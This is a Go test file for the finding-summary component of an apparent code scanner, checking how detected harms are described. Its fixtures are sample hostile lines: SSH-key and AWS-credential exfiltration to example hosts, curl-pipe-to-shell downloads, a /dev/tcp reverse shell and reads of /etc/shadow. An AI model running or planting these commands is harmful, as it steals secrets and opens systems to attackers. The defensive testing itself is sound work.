package story

import (
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
)

// saying gives a finding a message and what was seen.
func saying(f gate.Finding, message, evidence string) gate.Finding {
	f.Message, f.Evidence = message, evidence
	return f
}

// flow is a finding with the lines of its flow: number, text, number, text.
func flow(f gate.Finding, steps ...gate.Step) gate.Finding {
	f.Flow = steps
	f.Evidence = steps[len(steps)-1].Text
	return f
}

func TestAHarmHasOneSentence(t *testing.T) {
	keys := flow(saying(on(20, "exfiltration/key-file-flow", dangerous), "sends what it reads from a file with keys over the network", ""),
		gate.Step{Line: 13, Text: `key = os.path.join(home, ".ssh", "id_ed25519")`}, gate.Step{Line: 20, Text: "requests.post(ENDPOINT, data=key)"})
	channel := flow(saying(on(20, "exfiltration/channel-flow", dangerous), "sends keys over a connection that it opens", ""),
		gate.Step{Line: 7, Text: `ENDPOINT = "https://collect.example.com:8443/v1?x=1"`}, gate.Step{Line: 20, Text: "requests.post(ENDPOINT, data=key)"})
	inText := func(f *gate.Finding) { f.Origin = "base64 on line 3" }
	for _, c := range []struct {
		name     string
		findings []gate.Finding
		want     string
	}{
		{"source, host and lines of a flow", []gate.Finding{keys, channel},
			"Reads ~/.ssh/id_ed25519 and sends it to collect.example.com:8443 (lines 13 → 20)"},
		{"a host that no one sees is left out", []gate.Finding{keys},
			"Reads ~/.ssh/id_ed25519 and sends it over the network (lines 13 → 20)"},
		{"without a flow no one knows what is sent", []gate.Finding{saying(on(5, "exfiltration/post", suspicious), "sends data to a server.", `post("https://198.51.100.7/x")`)},
			"Sends data to a server: 198.51.100.7 (line 5)"},
		{"one line that names both", []gate.Finding{saying(on(5, "exfiltration/curl", dangerous), "sends a file", "curl -T ~/.aws/credentials https://example.com")},
			"Sends ~/.aws to example.com (line 5)"},
		{"a suspicion says no more than its rule", []gate.Finding{saying(on(8, "download-execute/two-programs", suspicious), "starts a download tool and a shell", "run('curl https://a.example.com')")},
			"Starts a download tool and a shell: a.example.com (line 8)"},
		{"a line that reads and another that sends are not known to be about the same", []gate.Finding{
			saying(on(5, "exfiltration/facts", dangerous), "collects facts", "x = os.environ"), saying(on(5, "network/post", suspicious), "posts", "https://a.example.com")},
			"Collects facts: a.example.com (line 5)"},
		{"a download in text that is decoded", []gate.Finding{
			with(saying(on(3, "download-execute/pipe", dangerous), "runs what it downloads", "curl https://a.example.com | sh"), inText),
			flow(saying(on(7, "dynamic-code/js-decoded-flow", dangerous), "runs text that it decodes", ""), gate.Step{Line: 6, Text: "fetch('https://b.example.com')"}, gate.Step{Line: 7, Text: "b"})},
			"Decodes text and runs it, which downloads code from a.example.com and runs that (lines 6 → 7)"},
		{"a download", []gate.Finding{saying(on(8, "download-execute/shell-pipe", dangerous), "runs what it downloads", "curl https://a.example.com/i.sh | sh")},
			"Downloads code from a.example.com and runs it (line 8)"},
		{"an install script", []gate.Finding{
			saying(on(5, "download-execute/shell-pipe", dangerous), "runs what it downloads", "curl https://a.example.com/i.sh | sh"),
			saying(on(5, "supply-chain/npm-install-hook", dangerous), "runs a command when the package is installed", "")},
			"Downloads code from a.example.com and runs it when the package is installed (line 5)"},
		{"decoded text", []gate.Finding{
			with(saying(on(3, "deletion/home", dangerous), "deletes the home folder", ""), inText),
			saying(on(7, "dynamic-code/js-decoded-code", dangerous), "runs code that it decodes first", "")},
			"Deletes the home folder (base64 on line 3)"},
		{"decoded text behind a flow", []gate.Finding{
			with(saying(on(3, "deletion/home", dangerous), "deletes the home folder", ""), inText),
			flow(saying(on(7, "dynamic-code/js-decoded-flow", dangerous), "runs text as code that it decodes first", ""), gate.Step{Line: 6, Text: "a"}, gate.Step{Line: 7, Text: "b"})},
			"Runs text as code that it decodes first, and that text deletes the home folder (lines 6 → 7)"},
		{"anything else is told in the words of the rule", []gate.Finding{saying(with(on(5, "privilege/sudo", dangerous), func(f *gate.Finding) { f.EndLine = 6 }), "lets everybody be root", "")},
			"Lets everybody be root (lines 5-6)"},
		{"the file as a whole", []gate.Finding{saying(on(0, "protected/deleted", suspicious), "a protected file was deleted", "")},
			"A protected file was deleted"},
		{"no words at all", []gate.Finding{saying(on(4, "x/y", dangerous), "", "")}, "Has a finding without a description (line 4)"},
		{"a word that begins with no letter", []gate.Finding{saying(on(4, "x/y", dangerous), "ünicode \xff", "")}, "Ünicode \xff (line 4)"},
	} {
		if got := Tell(c.findings, Harms(c.findings)[0]).String(); got != c.want {
			t.Errorf("%s:\n got %s\nwant %s", c.name, got, c.want)
		}
	}
}

func TestNamesInCodeAreRecognised(t *testing.T) {
	for text, want := range map[string]string{
		`open("/home/a/.ssh/id_rsa")`:                 "~/.ssh/id_rsa",
		`glob("~/.ssh/id_*")`:                         "~/.ssh/id_*",
		`listdir("~/.ssh")`:                           "~/.ssh",
		`open(".env")`:                                ".env",
		`x = os.environ`:                              "the environment",
		`os.environ["AWS_SECRET_ACCESS_KEY"]`:         "a variable of the environment",
		`process.env.NPM_TOKEN`:                       "a variable of the environment",
		`cat ~/.netrc ~/.npmrc /etc/shadow ~/.kube/c`: "~/.kube, ~/.netrc and 1 more",
		`"Login Data"`:                                "the passwords and cookies of a browser",
		`process.environment.sshd`:                    "",
		`data`:                                        "",
	} {
		if got := sources([]string{text}).String(); got != want {
			t.Errorf("sources of %s: %q, want %q", text, got, want)
		}
	}
	for text, want := range map[string]string{
		`fetch("https://Collect.Example.com/x")`:              "collect.example.com",
		`fetch("wss://a.example.com:8443")`:                   "a.example.com:8443",
		`"https://example.com."`:                              "example.com",
		`"https://example.com@evil.example.net/"`:             "evil.example.net",
		`"https://user:pa55@evil.example.net/"`:               "evil.example.net",
		`bash -i >& /dev/tcp/192.0.2.1/4444`:                  "192.0.2.1",
		`connect("192.0.2.1:4444")`:                           "192.0.2.1:4444",
		`a("https://a.example") b("https://b.example")`:       "a.example and b.example",
		`"https://$HOST/"`:                                    "",
		`"https://` + strings.Repeat("a.", 300) + `example/"`: "",
		`version 1.2.3`:                                       "",
		"`https://a.example`":                                 "a.example",
		"https://аpple.example/":                              "",
	} {
		if got := hosts([]string{text}).String(); got != want {
			t.Errorf("hosts of %s: %q, want %q", text, got, want)
		}
	}
}

// What a format escapes is marked, and short.
func TestTextOfAFindingIsMarkedAndBounded(t *testing.T) {
	long := strings.Repeat("x", 5000)
	f := flow(saying(on(20, "exfiltration/flow", dangerous), long, ""), gate.Step{Line: 1, Text: long}, gate.Step{Line: 20, Text: "https://" + long})
	findings := []gate.Finding{f, with(saying(on(3, "x/y", dangerous), "<b>", ""), func(f *gate.Finding) { f.Origin = "<i> on line 3" })}
	for _, h := range Harms(findings) {
		s := Tell(findings, h)
		if n := len(s.String()); n > 400 {
			t.Errorf("%d bytes: %s", n, s)
		}
		if shown := s.Shown(func(string) string { return "M" }, func(string) string { return "C" }); strings.ContainsAny(shown, "<x") {
			t.Errorf("it shows what a finding says as it is: %s", shown)
		}
	}
}

func TestAFileIsSummedUpByItsWorstHarm(t *testing.T) {
	parent := gate.FileResult{Path: "a.py", Findings: []gate.Finding{saying(on(3, "obfuscation/base64", suspicious), "decodes text", "")}}
	child := gate.FileResult{Path: "a.py!1", Parent: "a.py", Origin: "base64 on line 3", Findings: []gate.Finding{saying(on(1, "reverse-shell/python", dangerous), "opens a shell", "")}}
	grandchild := gate.FileResult{Path: "a.py!1!1", Parent: "a.py!1", Origin: "hex on line 1", Findings: []gate.Finding{saying(on(2, "deletion/home", dangerous), "deletes the home folder", "")}}
	many := gate.FileResult{Path: "b.sh", Findings: []gate.Finding{
		saying(on(4, "a/a", suspicious), "does a", ""), saying(on(20, "b/b", dangerous), "does b", ""), saying(on(40, "c/c", note), "does c", ""),
		with(saying(on(60, "d/d", dangerous), "does d", ""), func(f *gate.Finding) { f.InChange = false })}}
	quiet := gate.FileResult{Path: "c.sh", Findings: []gate.Finding{saying(on(40, "c/c", note), "does c", "")}}
	emptied := child
	emptied.Findings = nil
	for _, c := range []struct {
		name  string
		files []gate.FileResult
		want  []string
	}{
		{"the worst, and how many more", []gate.FileResult{many, quiet}, []string{"Does b (line 20), and 1 more", ""}},
		{"what came out of it, where that is worse", []gate.FileResult{parent, child},
			[]string{"Holds text (base64 on line 3) that opens a shell (line 1)", "Opens a shell (line 1)"}},
		{"also through a text that is harmless itself", []gate.FileResult{parent, emptied, grandchild},
			[]string{"Holds text (hex on line 1) that deletes the home folder (line 2)", "Holds text (hex on line 1) that deletes the home folder (line 2)", "Deletes the home folder (line 2)"}},
		{"a parent that no one knows", []gate.FileResult{child}, []string{"Opens a shell (line 1)"}},
	} {
		for i, f := range Mark(gate.Result{Files: c.files}).Files {
			if f.Summary != c.want[i] {
				t.Errorf("%s: %s: %q, want %q", c.name, f.Path, f.Summary, c.want[i])
			}
		}
	}
}

func TestAMarkedResultSaysWhatBelongsTogether(t *testing.T) {
	findings := []gate.Finding{on(3, "a/a", suspicious), on(3, "b/b", dangerous), on(30, "c/c", suspicious)}
	findings[2].Group, findings[2].Lead = 7, false // what a document from elsewhere says
	before := gate.Result{Decision: gate.DecisionBlock, Verdict: gate.Dangerous, Files: []gate.FileResult{{Path: "a", Findings: findings, Summary: "nothing to see"}}}
	got := Mark(before)
	var groups []int
	var leads []bool
	for _, f := range got.Files[0].Findings {
		groups, leads = append(groups, f.Group), append(leads, f.Lead)
	}
	if groups[0] != 1 || groups[1] != 1 || groups[2] != 2 || leads[0] || !leads[1] || !leads[2] {
		t.Errorf("groups %v, leads %v", groups, leads)
	}
	if before.Files[0].Summary != "nothing to see" || before.Files[0].Findings[0].Group != 0 {
		t.Error("the result that was given is changed")
	}
	if got.Files[0].Summary != "Does b/b (line 3), and 1 more" || got.Decision != before.Decision || got.Verdict != before.Verdict {
		t.Errorf("marked: %+v", got)
	}
}
